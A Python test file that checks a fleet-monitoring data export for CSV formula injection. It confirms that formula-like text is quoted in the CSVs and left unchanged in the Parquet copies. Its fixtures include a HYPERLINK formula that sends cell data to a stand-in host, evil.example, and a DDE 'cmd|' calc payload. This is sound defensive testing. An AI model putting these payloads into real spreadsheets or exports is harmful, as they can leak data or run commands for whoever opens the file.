"""The data export's CSVs: text a machine or a person wrote never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest

from fleet.db import session
from fleet.tables import MachineEvent
from tests.api.support import NOW, World, build_world, exported, resolve_alert, store_fw

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'


@pytest.fixture
def world(database_url: str, tmp_path) -> World:
    return build_world(database_url, archive_url=str(tmp_path / "archive"))


def _rows(zipped: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(zipped.read(name).decode())))


def test_formula_text_is_quoted_in_the_csvs_and_kept_as_it_is_in_parquet(world: World) -> None:
    acme, machine = world.customers["acme"], world.machines["acme"][0]
    alert = world.alerts["acme"][0]
    resolve_alert(world, alert, FORMULA)
    with session(world.engine) as sess:  # what a machine sent on its events topic
        event = {"customer_id": acme, "machine_id": machine, "ts": NOW, "received_at": NOW}
        sess.add(MachineEvent(**event, seq=1, code="@SUM(1+1)*cmd|' /C calc'!A0", text="\tx"))
        sess.add(MachineEvent(**event, seq=2, code="-1", text="+41"))
    # A machine's firmware string is its own text too; a reading below zero is a number.
    store_fw(world, "-2+3", lambda i: {"temperature_c": -7.5 - i})
    zipped = exported(world)

    alerts = {row["id"]: row for row in _rows(zipped, "alerts.csv")}
    assert alerts[str(alert)]["finding_text"] == "'" + FORMULA
    events = sorted(_rows(zipped, "events.csv"), key=lambda row: row["seq"])
    assert [(e["code"], e["text"]) for e in events] == [
        ("'@SUM(1+1)*cmd|' /C calc'!A0", "'\tx"),
        ("-1", "+41"),  # plain numbers stay numbers
    ]
    telemetry = [n for n in zipped.namelist() if n.startswith(f"telemetry/machine={machine}/")]
    rows = _rows(zipped, next(n for n in telemetry if n.endswith(".csv")))
    assert [(r["seq"], r["fw"], r["readings.temperature_c"]) for r in rows] == [
        ("1", "'-2+3", "-7.5"),
        ("2", "", "-8.5"),
    ]
    # The machine-readable copy keeps every value exactly as stored.
    parquet = pd.read_parquet(io.BytesIO(zipped.read("alerts.parquet")))
    assert FORMULA in set(parquet["finding_text"])
    events = pd.read_parquet(io.BytesIO(zipped.read("events.parquet")))
    assert sorted(events["text"]) == ["\tx", "+41"]
